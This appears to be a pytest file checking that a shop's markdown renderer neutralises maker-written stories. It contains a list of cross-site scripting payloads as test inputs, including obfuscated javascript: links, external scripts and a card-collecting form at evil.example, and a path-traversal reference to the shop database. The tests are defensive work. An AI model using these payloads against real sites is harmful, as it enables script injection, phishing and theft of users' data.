"""Origin stories are written by makers and shown to everyone: nothing active may survive."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from shop import markdown

UPLOAD = "/media/0123456789abcdef0123456789abcdef.jpg"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<body onload=alert(1)>",
    '<a href="#" onclick="alert(1)">click</a>',
    '<div onmouseover="alert(1)">hover</div>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](java&#x0A;script:alert(1))",
    "[click](java%09script:alert(1))",
    "[click](%6Aavascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    '[click](javascript:alert(1) "title")',
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pixel](DATA:image/png;base64,iVBORw0KGgo=)",
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><circle r="4"/></svg>',
    '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
    "![tracker](https://evil.example/pixel.gif)",
    "![tracker](//evil.example/pixel.gif)",
    "![tracker](http://evil.example/pixel.gif)",
    "![escape](/media/../instance/shop.sqlite3)",
    "![lookalike](/media//evil.example/x.png)",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<span style="background:url(javascript:alert(1))">x</span>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<base href="https://evil.example/">',
    "<!-- <script>alert(1)</script> -->",
    '<details open ontoggle="alert(1)">x</details>',
]


class _Elements(HTMLParser):
    """Every element and attribute a browser would build from the rendered HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.comments.append(data)


def elements(source: str) -> _Elements:
    parser = _Elements()
    parser.feed(str(markdown.render(source)))
    parser.close()
    return parser


def _is_safe_url(url: str) -> bool:
    squashed = re.sub(r"[\x00-\x20]", "", url).lower()
    if squashed.startswith("//"):
        return False
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", squashed)
    return scheme is None or scheme.group(1) in ("http", "https", "mailto")


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_renders_inert(source):
    parsed = elements(source)
    assert not parsed.comments
    for tag, attrs in parsed.elements:
        assert tag in markdown.ALLOWED_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("style", "srcset", "action", "formaction", "xlink:href"), name
            assert name in markdown.ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, (tag, name)
            if name == "href":
                assert _is_safe_url(value or ""), value


@pytest.mark.parametrize("source", HOSTILE)
def test_images_never_load_from_anywhere_but_our_uploads(source):
    for tag, attrs in elements(source).elements:
        if tag == "img" and "src" in attrs:
            src = attrs["src"] or ""
            assert re.fullmatch(r"/media/([a-f0-9]{64}|[a-f0-9]{32})\.(jpg|png|webp)", src)


def test_ordinary_formatting_survives():
    html = str(
        markdown.render(
            "Grown **nearby**, cut *by hand*.\n\n> Rye bread crust.\n\n- one\n- two\n\n"
            "| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~"
        )
    )
    for fragment in (
        "<strong>nearby</strong>",
        "<em>by hand</em>",
        "<blockquote>",
        "<li>one</li>",
        "<table>",
        "<td>1</td>",
        "<s>old</s>",
    ):
        assert fragment in html


def test_links_keep_safe_urls_and_get_a_rel():
    html = str(markdown.render("[our farm](https://farm.example/rye?a=1&b=2)"))
    assert 'href="https://farm.example/rye?a=1&amp;b=2"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_images_are_allowed_only_from_our_uploads():
    assert f'src="{UPLOAD}"' in str(markdown.render(f"![the still]({UPLOAD})"))
    stored = f"/media/{'ab' * 32}.png"  # the name of a picture in the store: its SHA-256
    assert f'src="{stored}"' in str(markdown.render(f"![the still]({stored})"))
    assert "src=" not in str(markdown.render("![the still](/media/not-a-stored-name.jpg)"))


def test_headings_move_down_a_level_because_the_page_owns_its_h1():
    html = str(markdown.render("# Harvest\n\n## Still\n\n#### Cask"))
    assert "<h1" not in html
    assert "<h2>Harvest</h2>" in html
    assert "<h3>Still</h3>" in html
    assert "<h4>Cask</h4>" in html


def test_raw_html_is_shown_as_text_not_markup():
    html = str(markdown.render("<b>bold?</b>"))
    assert "<b>" not in html
    assert "&lt;b&gt;bold?&lt;/b&gt;" in html


def test_empty_story_renders_nothing():
    assert str(markdown.render("")) == ""
    assert str(markdown.render(None)) == ""  # type: ignore[arg-type]


def test_a_story_is_rendered_once_and_served_sanitized_from_memory_after():
    hostile = "Batch notes <script>alert(1)</script> [x](javascript:alert(1)) **rye**"
    before = markdown._render.cache_info()
    first = markdown.render(hostile)
    second = markdown.render(hostile)
    after = markdown._render.cache_info()
    assert first == second and isinstance(second, Markup)
    assert "<script" not in second and "href" not in second  # escaped text, no link
    assert "<strong>rye</strong>" in second
    assert after.hits == before.hits + 1
